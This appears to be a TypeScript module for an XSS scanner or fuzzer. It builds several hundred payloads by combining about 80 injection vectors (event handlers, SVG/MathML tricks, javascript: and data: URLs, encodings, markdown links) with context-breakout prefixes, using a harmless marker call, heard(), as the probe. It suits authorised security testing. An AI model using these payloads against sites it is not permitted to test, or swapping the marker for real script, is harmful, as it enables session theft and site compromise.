// More than 500 strings that run a script where text is taken for markup: every vector behind every way out of the place it stands in. Whatever
// runs calls heard(), which nobody but the watcher has.
const call = 'heard()';
const coded = Buffer.from(`<script>${call}</script>`).toString('base64');

const vectors = [
  `<script>${call}</script>`,
  `<SCRIPT\n>${call}</SCRIPT >`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type=module>${call}</script>`,
  `<script/x>${call}</script`,
  `<<script>${call}//<</script>`,
  `<img src=x onerror=${call}>`,
  `<IMG SRC=x ONERROR="${call}">`,
  `<img/src=x/onerror=${call}>`,
  `<img\tsrc=x\nonerror\n=\n${call}>`,
  `<img src=x onerror=&#104;eard()>`,
  `<img src=x onerror="&#x68;eard&lpar;&rpar;">`,
  `<img src=x onerror=\\u0068eard()>`,
  `<img srcset=x onerror=${call}`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributeName=x>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
  `<math href="javascript:${call}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe src="data:text/html;base64,${coded}"></iframe>`,
  `<iframe onload=${call}></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data="data:text/html;base64,${coded}" onerror=${call}></object>`,
  `<embed src="javascript:${call}">`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<video src=x onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<a href=x autofocus onfocus=${call} tabindex=1>x</a>`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<link rel=stylesheet href=x onerror=${call}>`,
  `<style onload=${call}></style>`,
  `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${call}>x</b>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<form action="javascript:${call}"><input type=submit autofocus></form>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="&#106;avascript:${call}">x</a>`,
  `<a href="java\tscript:${call}">x</a>`,
  `<a href=" \u00a0javascript:${call}">x</a>`,
  `<a href="vbscript:${call}">x</a>`,
  `<a href="data:text/html;base64,${coded}">x</a>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `＜script＞${call}＜/script＞`,
  `\u202e<img src=x onerror=${call}>\u202c`,
  `[x](javascript:${call})`,
  `[x](<javascript:${call}>)`,
  `[x](data:text/html;base64,${coded})`,
  `![x](x"onerror="${call})`,
  `![x](javascript:${call})`,
  `<javascript:${call}>`,
  `[x]: javascript:${call} "x"\n\n[x]`,
  `[x](https://exercise.example/"onmouseover="${call})`,
  `onerror=${call} src=x`,
  `autofocus onfocus=${call} tabindex=1 x=`,
  `javascript:${call}`,
  `${call}//`,
  `\${${call}}`,
];
const doors = ['', '">', "'>", '</title></textarea></style>', '--></script>', ']]>', '" autofocus onfocus=heard() x="', "';heard();'"];

export const payloads: readonly string[] = [...new Set(doors.flatMap((door) => vectors.map((vector) => door + vector)))];

/** The word that stands for all of them in a field that is too short; answers of the server are read with all of them in its place. */
export const word = 'Zq7vbx';

/** All of them in pieces of at most so many characters, for a field with a limit. One that is longer than the limit is left out. */
export function pieces(limit: number, from: readonly string[] = payloads): string[] {
  const out: string[] = [];
  let piece = '';
  for (const each of from.filter((one) => one.length <= limit)) {
    if (piece && piece.length + 1 + each.length > limit) {
      out.push(piece);
      piece = '';
    }
    piece = piece ? `${piece} ${each}` : each;
  }
  return [...out, piece];
}
